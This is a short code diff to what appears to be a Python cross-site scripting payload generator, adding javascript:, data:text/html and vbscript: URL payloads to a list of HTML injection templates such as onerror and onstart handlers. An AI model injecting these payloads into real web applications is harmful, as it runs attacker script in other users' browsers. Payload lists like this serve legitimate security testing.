@@ -29,6 +29,10 @@ BASES = [
     f'<div style="background:url(javascript:{CALL})">x</div>',
     f"<marquee onstart={CALL}>",
     f"<video><source onerror={CALL}></video>",
+    # Bare URLs, for the fields that hold a link.
+    f"javascript:{CALL}",
+    f"data:text/html,<script>{CALL}</script>",
+    f" vbscript:{CALL}",
 ]
 WRAPS = [
     lambda p: p,
